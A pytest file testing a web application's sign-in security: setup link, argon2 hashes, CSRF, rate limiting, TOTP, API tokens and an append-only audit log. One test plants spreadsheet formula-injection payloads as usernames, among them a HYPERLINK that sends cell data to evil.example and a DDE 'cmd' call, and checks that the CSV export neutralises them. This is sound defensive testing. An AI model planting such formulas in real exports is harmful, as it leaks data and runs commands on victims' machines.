"""Sign-in: the one-time set-up link, argon2 hashes, cookie flags, CSRF, rate limit, TOTP,
revocable API tokens, and the append-only audit log without personal data."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pyotp
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from tieguard.web import WebConfig, WebState, create_app
from tieguard.web.auth import LoginLimiter
from tieguard.web.store import AuditEvent, LoginFailure, User, connect_app_db, migrate_app_db, now

from .conftest import PASSWORD, Web


def test_first_run_link_creates_the_administrator_once(tmp_path: Path) -> None:
    state = WebState(WebConfig(db=tmp_path / "w.duckdb", create=True))
    with TestClient(create_app(state.config, state), follow_redirects=False) as client:
        link = state.setup_link()
        assert link and "/setup?token=" in link
        token = link.split("token=")[1]
        assert client.get("/setup?token=wrong").status_code == 404
        assert client.get(f"/setup?token={token}").status_code == 200
        res = client.post("/setup", data={"token": token, "username": "root",
                                          "password": PASSWORD})
        assert res.status_code == 303
        assert client.post("/setup", data={"token": token, "username": "again",
                                           "password": PASSWORD}).status_code == 404
        assert state.setup_link() is None
        with state.app_db() as db:
            user = db.scalars(select(User)).one()
        assert user.role == "admin" and user.password_hash.startswith("$argon2id$")
        res = client.post("/login", data={"username": "root", "password": PASSWORD})
        cookie = res.headers["set-cookie"].lower()
        assert res.status_code == 303 and "httponly" in cookie and "samesite=strict" in cookie


def test_sign_in_is_rate_limited(web: Web) -> None:
    for _ in range(5):
        res = web.client.post("/login", data={"username": "manager", "password": "wrong"})
        assert res.status_code == 401
    res = web.client.post("/login", data={"username": "manager", "password": PASSWORD})
    assert res.status_code == 429 and "wait" in res.text


def test_forms_need_the_session_s_csrf_token(web: Web) -> None:
    cookie = {"Cookie": web.page("admin")["Cookie"]}
    assert web.client.post("/account/tokens", data={"name": "x"}, headers=cookie).status_code == 403
    ok = web.client.post("/account/tokens", data={"name": "x", "csrf_token": web.csrf["admin"]},
                         headers=cookie)
    assert ok.status_code == 200 and "tg_" in ok.text


def test_api_tokens_are_revocable(web: Web) -> None:
    made = web.client.post("/api/v1/tokens", json={"name": "script"}, headers=web.api("analyst"))
    token = made.json()["token"]
    bearer = {"Authorization": f"Bearer {token}"}
    assert web.client.get("/api/v1/me", headers=bearer).json()["role"] == "analyst"
    listed = web.client.get("/api/v1/tokens", headers=bearer).json()
    token_id = next(t["id"] for t in listed if t["name"] == "script")
    assert web.client.delete(f"/api/v1/tokens/{token_id}", headers=bearer).status_code == 204
    assert web.client.get("/api/v1/me", headers=bearer).status_code == 401
    other = web.client.delete(f"/api/v1/tokens/{token_id}", headers=web.api("admin"))
    assert other.status_code == 404  # nobody revokes another user's token


def test_totp_once_enabled_is_required(web: Web) -> None:
    secret = pyotp.random_base32()
    res = web.client.post("/account/totp", data={"secret": secret, "code": "000000"},
                          headers=web.page("auditor"))
    assert res.status_code == 400
    res = web.client.post("/account/totp", data={"secret": secret,
                                                 "code": pyotp.TOTP(secret).now()},
                          headers=web.page("auditor"))
    assert res.status_code == 303
    no_code = web.client.post("/login", data={"username": "auditor", "password": PASSWORD})
    assert no_code.status_code == 401
    with_code = web.client.post("/login", data={"username": "auditor", "password": PASSWORD,
                                                "code": pyotp.TOTP(secret).now()})
    assert with_code.status_code == 303


def test_audit_log_is_append_only_paginated_and_free_of_personal_data(web: Web) -> None:
    employee = web.employees[0]
    web.client.get("/me", headers=web.page("employee"))
    web.client.get(f"/employees/{employee}", headers=web.page("analyst"))
    page = web.client.get("/api/v1/audit?limit=3", headers=web.api("auditor")).json()
    assert len(page["items"]) == 3 and page["total"] > 3
    export = web.client.get("/audit.csv", headers=web.page("auditor"))
    assert export.status_code == 200
    lines = export.text.splitlines()
    assert any("view-employee-report" in line and employee in line and "analyst" in line
               for line in lines)
    name, email = web.state.warehouse.engine.fetchone(
        "SELECT full_name, email FROM employees WHERE employee_id = ?", [employee]) or ("", "")
    assert name not in export.text and email not in export.text
    with web.state.app_db() as db:
        event = db.scalars(select(AuditEvent)).first()
        assert event is not None
        event.action = "nothing happened"
        with pytest.raises(PermissionError, match="append-only"):
            db.commit()


def test_uploads_need_consent_and_an_account_linked_to_the_roster(web: Web) -> None:
    files = {"export": ("Connections.csv", b"First Name,Last Name\n", "text/csv")}
    res = web.client.post("/api/v1/me/exports", files=files, headers=web.api("employee"))
    assert res.status_code == 400 and "consent" in res.text



PLANTED = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
           "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1")


def test_audit_export_neutralises_formulas_typed_at_sign_in(web: Web) -> None:
    """Anyone can type a user name at the sign-in page; the audit log keeps it (failed or
    blocked sign-in), so the CSV an auditor opens in a spreadsheet must not run it."""
    for name in PLANTED:
        res = web.client.post("/login", data={"username": name, "password": "wrong password"})
        assert res.status_code in (401, 429)
    export = web.client.get("/audit.csv", headers=web.page("auditor"))
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.text, newline="")))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    targets = {row["target"] for row in rows if row["action"].startswith("sign-in-")}
    assert {"'" + name for name in PLANTED} <= targets  # kept, one apostrophe in front
    assert {"id", "at", "actor", "role", "action", "target", "detail"} == set(rows[0])
    assert [int(row["id"]) for row in rows] == sorted(int(row["id"]) for row in rows)


def test_sign_in_limit_counts_across_workers_and_restarts(web: Web) -> None:
    """The failures are in the application database: another worker process (or the server
    after a restart: a new connection pool) sees them; only hashes of the keys are stored."""
    sa_engine, app_db = connect_app_db(web.state.app_db_url)
    try:
        other = LoginLimiter(app_db, limit=5, window_seconds=300)
        assert not other.blocked("user:manager")
        for _ in range(5):
            res = web.client.post("/login", data={"username": "manager", "password": "wrong"})
            assert res.status_code == 401
        assert other.blocked("user:manager") and other.blocked("ip:testclient")
        with app_db() as db:
            stored = list(db.scalars(select(LoginFailure.key_hash)))
        assert len(stored) == 10 and not any("manager" in h or "testclient" in h for h in stored)
        later = LoginLimiter(app_db, limit=5, window_seconds=300,
                             clock=lambda: now() + dt.timedelta(seconds=301))
        assert not later.blocked("user:manager")  # the window has passed
        res = web.client.post("/login", data={"username": "manager", "password": PASSWORD})
        assert res.status_code == 429  # but not yet for the server
    finally:
        sa_engine.dispose()


def test_sign_in_limit_per_key_window_and_reset(tmp_path: Path) -> None:
    sa_engine, app_db = connect_app_db(f"sqlite:///{tmp_path / 'app.sqlite'}")
    migrate_app_db(sa_engine)
    t = [dt.datetime(2026, 1, 1, 12, 0)]
    limiter = LoginLimiter(app_db, limit=3, window_seconds=60, clock=lambda: t[0])
    for _ in range(2):
        limiter.fail("user:ann", "ip:10.0.0.1")
    assert not limiter.blocked("user:ann", "ip:10.0.0.1")
    limiter.fail("user:bob", "ip:10.0.0.1")  # a third name from the same address
    assert limiter.blocked("user:zoe", "ip:10.0.0.1") and not limiter.blocked("user:ann")
    limiter.reset("ip:10.0.0.1")
    assert not limiter.blocked("ip:10.0.0.1")
    limiter.fail("user:ann")
    assert limiter.blocked("user:ann")
    t[0] += dt.timedelta(seconds=30)
    assert limiter.blocked("user:ann")  # 30 s old: inside the window
    t[0] += dt.timedelta(seconds=31)
    assert not limiter.blocked("user:ann")
    limiter.fail("user:cy")  # forgets what is older than the window
    with app_db() as db:
        assert db.scalar(select(func.count()).select_from(LoginFailure)) == 1
    sa_engine.dispose()
